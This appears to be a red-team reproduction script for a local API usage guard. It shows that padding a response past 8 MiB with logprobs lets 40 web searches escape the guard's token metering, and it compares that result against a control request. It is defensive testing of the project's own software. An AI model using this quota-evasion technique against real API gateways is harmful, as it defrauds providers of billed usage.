// Self-contained (Node built-ins only). Needs the guard on PORT (8971) in front of round 80's scripted
// origin (origin.mjs on ORIGIN_PORT, 8973), as run.sh starts them; the admin token is the measuring instrument.
import { readFileSync } from "node:fs";
const PORT = process.env.PORT || 8971, ORIGIN = `http://127.0.0.1:${process.env.ORIGIN_PORT || 8973}`;
const BASE = `http://127.0.0.1:${PORT}`;
const ADMIN = process.env.GUARD_ADMIN_TOKEN || /GUARD_ADMIN_TOKEN=(\S+)/.exec(readFileSync(new URL("../../.dev.vars", import.meta.url), "utf8"))[1];
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
async function admin(method, path, body) { const r = await fetch(BASE + path, { method, headers: { authorization: `Bearer ${ADMIN}`, "content-type": "application/json" }, body: body ? JSON.stringify(body) : undefined }); return r.json(); }
async function setup(key, ov) { const { keyId } = await admin("POST", "/admin/keys/lookup", { key }); await admin("PUT", `/admin/keys/${keyId}/overrides`, ov); return keyId; }
async function tpdUsed(id) { const s = await admin("GET", `/admin/keys/${id}`); const u = s.usage.find((x) => x.name === "tpd"); return u.quota - u.remaining; }
async function call(key, method, path, body, headers = {}) {
  const h = { authorization: `Bearer ${key}`, ...headers }; if (body !== undefined) h["content-type"] = "application/json";
  const r = await fetch(BASE + path, { method, headers: h, body: body === undefined ? undefined : JSON.stringify(body) });
  const text = await r.text(); let json; try { json = JSON.parse(text); } catch {} return { status: r.status, text, json };
}
// billed by the origin for one key, in tokens: input + output + hosted calls at the guard's default
// ratio (a web search $10/1,000 at $4 per million tokens = 2,500 tokens)
async function billed(key) { const l = (await (await fetch(`${ORIGIN}/ledger`)).json())[key]; return l ? { tokens: l.input + l.output + 2500 * l.searches, searches: l.searches, requests: l.requests } : { tokens: 0, searches: 0, requests: 0 }; }
try { await fetch(`${ORIGIN}/ledger`); } catch { console.log(`round 80's origin does not answer on ${ORIGIN} (sh redteam/round80/run.sh starts it)`); console.log("not reproduced"); process.exit(0); }
const RUN = Date.now().toString(36);
// R80-3: a Responses answer over 8 MiB is read at its two ends and its hosted-call items are not
// counted (documented). The client decides the answer's size: logprobs with top_logprobs 20 add
// ~1.2 KB per output token (modelled: the origin bills one output token per logprob entry), so
// ~7,700 output tokens carry 40 web searches (100,000 tokens at hostedCalls.webSearch) past the
// count. The same answer retrieved from a background job is read the same way.
const SEARCHES = 40;
const A = `sk-r80-3-${RUN}`, C = `sk-r80-3c-${RUN}`;
const ida = await setup(A, { tpd: 1000000, tpm: null, rpm: null }), idc = await setup(C, { tpd: 1000000, tpm: null, rpm: null });
const body = { model: "gpt-4.1", input: `search ${SEARCHES} times, then answer`, tools: [{ type: "web_search" }], include: ["message.output_text.logprobs"], top_logprobs: 20, max_output_tokens: 8000 };
const a = await call(A, "POST", "/v1/responses", body, { "x-mock-logprob-kb": "9000" });
const bg = await call(A, "POST", "/v1/responses", { ...body, background: true }, { "x-mock-logprob-kb": "9000" });
const g = await call(A, "GET", `/v1/responses/${bg.json?.id}`);
const c = await call(C, "POST", "/v1/responses", { ...body, include: undefined, top_logprobs: undefined }, { "x-mock-words": "7680" });
console.log("statuses", a.status, bg.status, g.status, c.status, "answer bytes", a.text.length, g.text.length, c.text.length);
await sleep(4000);
const [ca, cc, ba, bc] = [await tpdUsed(ida), await tpdUsed(idc), await billed(A), await billed(C)];
console.log(`attack  (answers of ${(a.text.length / 1048576).toFixed(1)} MiB, one direct, one background): origin billed ${ba.tokens} tokens (${ba.searches} searches), guard charged ${ca} (${(ba.tokens / Math.max(ca, 1)).toFixed(1)}x under)`);
console.log(`control (same searches and output tokens, no logprobs, ${(c.text.length / 1024).toFixed(0)} KiB): origin billed ${bc.tokens} tokens, guard charged ${cc}`);
console.log(ca < ba.tokens / 2 && cc > bc.tokens * 0.9 ? "REPRODUCED" : "not reproduced");
